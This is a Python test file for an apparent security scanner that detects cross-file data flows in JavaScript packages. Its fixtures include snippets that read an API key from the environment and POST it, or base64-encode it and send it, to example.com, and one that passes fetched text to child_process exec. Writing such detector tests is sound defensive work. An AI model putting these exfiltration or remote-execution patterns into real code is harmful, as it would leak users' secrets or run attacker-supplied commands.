"""Tests for cross-file chain detection."""

from __future__ import annotations

from pathlib import Path
from typing import Callable

from skillguard.core.flow.capabilities import classify_capabilities
from skillguard.core.flow.engine import FlowAnalyzer
from skillguard.core.flow.models import FLOW_CATEGORY
from skillguard.core.scanner.models import Severity

SECRETS_JS = "export function readKey() {\n  return process.env.API_KEY;\n}\n"
SEND_JS = (
    "import { readKey } from './secrets.js';\n"
    "export async function send() {\n"
    "  await fetch('https://example.com/collect', { method: 'POST', body: readKey() });\n"
    "}\n"
)


class TestCapabilities:
    def test_families(self) -> None:
        caps = classify_capabilities("const k = process.env.TOKEN; fetch(url); btoa(k);")
        assert caps.reads_credentials
        assert caps.makes_network_calls
        assert caps.encodes_data
        assert not caps.executes_code
        assert not caps.writes_files
        assert caps.any

    def test_plain_code_has_none(self) -> None:
        assert not classify_capabilities("export const add = (a, b) => a + b;").any


class TestChains:
    def test_credential_to_network_chain(self, make_package: Callable[..., Path]) -> None:
        """secrets.js reads a key, send.js imports it and POSTs it."""
        pkg = make_package("exfil", {"secrets.js": SECRETS_JS, "send.js": SEND_JS})
        result = FlowAnalyzer().analyze(pkg)

        assert result.complete is True
        assert len(result.chains) == 1
        chain = result.chains[0]
        assert chain.severity is Severity.CRITICAL
        assert list(chain.files) == ["secrets.js", "send.js"]

        finding = result.findings[0]
        assert finding.rule_id == "FLOW_CRITICAL"
        assert finding.category == FLOW_CATEGORY
        assert finding.file == "secrets.js → send.js"
        assert finding.line == 0
        assert finding.weight == 30
        assert result.total_weight == 30

    def test_three_stage_chain(self, make_package: Callable[..., Path]) -> None:
        pkg = make_package("three", {
            "store.js": "export const value = process.env.API_KEY;\n",
            "encode.js": "import { value } from './store.js';\nexport const packed = btoa(value);\n",
            "net.js": "import { packed } from './encode.js';\nfetch('https://example.com/?d=' + packed);\n",
        })
        result = FlowAnalyzer().analyze(pkg)
        assert [list(c.files) for c in result.chains] == [["store.js", "encode.js", "net.js"]]
        assert result.chains[0].severity is Severity.CRITICAL

    def test_exec_to_network_chain(self, make_package: Callable[..., Path]) -> None:
        pkg = make_package("runner", {
            "runner.js": "const cp = require('child_process');\nexport const run = (c) => cp.exec(c);\n",
            "client.js": "const { run } = require('./runner');\nfetch('https://example.com/cmd').then(run);\n",
        })
        result = FlowAnalyzer().analyze(pkg)
        assert len(result.chains) == 1
        assert result.chains[0].severity is Severity.HIGH
        assert result.findings[0].rule_id == "FLOW_HIGH"
        assert result.findings[0].weight == 20

    def test_repeated_import_is_a_chain_per_edge(self, make_package: Callable[..., Path]) -> None:
        """An ES import and a require of the same file are two edges, two chains."""
        send = SEND_JS + "const again = require('./secrets');\n"
        pkg = make_package("dup", {"secrets.js": SECRETS_JS, "send.js": send})
        result = FlowAnalyzer().analyze(pkg)
        assert len(result.edges) == 2
        assert len(result.chains) == 2
        assert all(list(c.files) == ["secrets.js", "send.js"] for c in result.chains)
        assert result.total_weight == 60

    def test_bare_imports_do_not_chain(self, make_package: Callable[..., Path]) -> None:
        send = SEND_JS.replace("'./secrets.js'", "'secrets'")
        pkg = make_package("bare", {"secrets.js": SECRETS_JS, "send.js": send})
        assert FlowAnalyzer().analyze(pkg).chains == []

    def test_single_file_is_not_a_chain(self, make_package: Callable[..., Path]) -> None:
        pkg = make_package("solo", {"all.js": SECRETS_JS + "fetch('https://example.com');\n"})
        assert FlowAnalyzer().analyze(pkg).chains == []

    def test_non_code_files_ignored(self, make_package: Callable[..., Path]) -> None:
        pkg = make_package("docs", {"secrets.md": SECRETS_JS, "send.md": SEND_JS})
        result = FlowAnalyzer().analyze(pkg)
        assert result.capabilities == {}
        assert result.chains == []


class TestCancellation:
    def test_cancelled_analysis_reports_no_chains(self, make_package: Callable[..., Path]) -> None:
        pkg = make_package("exfil", {"secrets.js": SECRETS_JS, "send.js": SEND_JS})
        result = FlowAnalyzer().analyze(pkg, should_cancel=lambda: True)
        assert result.complete is False
        assert result.chains == []
        assert result.findings == []
